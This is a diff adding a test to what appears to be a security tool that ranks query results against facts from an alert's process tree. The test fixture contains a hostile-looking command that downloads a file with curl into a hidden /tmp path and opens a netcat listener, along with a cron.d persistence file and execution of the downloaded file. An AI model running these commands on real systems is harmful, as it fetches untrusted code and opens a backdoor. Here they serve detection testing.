@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest';
 import type { ResultTable } from '../result_table';
-import { toConcernFacts } from './concern_facts';
+import { toSampleStory, toStoryProcess, toStoryTree } from '../../../test/browser_app/sample_story';
+import { toConcernFacts, toFactsElsewhere } from './concern_facts';
 import { rankRows } from './rank_rows';
 
 const toTable = (names: readonly string[], ...rows: readonly string[][]): ResultTable => ({
@@ -65,4 +66,45 @@ test('takes nothing of root’s and no pid of init for the alert’s', () => {
 test('ends where rows say that processes started each other', () => {
   const table = toTable(['pid', 'parent'], ['700', '701'], ['701', '700']);
   expect(rankRows(table, FACTS)).toHaveLength(2);
+});
+
+test('marks what its tree wrote, where it called and which port it opened', () => {
+  const story = toSampleStory({
+    trees: [
+      toStoryTree([
+        toStoryProcess(0, ['sh', '-c', 'curl http://10.9.8.7/x -o /tmp/.u; nc -l -p 31337'], {
+          isOfAlert: true,
+          activities: [
+            { kind: 'file', time: '', action: 'creation', target: '/etc/cron.d/upd' },
+            {
+              kind: 'network',
+              time: '',
+              action: 'connection_attempted',
+              target: '[2001:db8::9]:443',
+            },
+          ],
+        }),
+      ]),
+    ],
+  });
+  const facts = toConcernFacts({ process: { pid: 700 } }, story);
+  const table = toTable(
+    ['pid', 'path', 'command', 'remote_address', 'port'],
+    ['1', '/etc/cron.d/upd', '', '', ''],
+    ['2', '', '/bin/sh /tmp/.u --quiet', '', ''],
+    ['3', '', '', '10.9.8.7', ''],
+    ['4', '', '', '2001:db8::9', ''],
+    ['5', '', '', '', '31337'],
+    ['6', '/etc/cron.d/other', '/bin/sh /tmp/.u2', '10.9.8.70', '3133']
+  );
+  const marked = rankRows(table, facts).filter(({ concerns }) => concerns.length > 0);
+  expect(marked.map(({ cells, concerns }) => [cells[0], ...concerns]).sort()).toEqual([
+    ['1', 'file'],
+    ['2', 'file'],
+    ['3', 'address'],
+    ['4', 'address'],
+    ['5', 'port'],
+  ]);
+  // Nothing of a process id or a user says anything on another host; what the tree wrote and called does.
+  expect(toFactsElsewhere(facts)).toMatchObject({ pids: [], ports: new Set(['31337']) });
 });
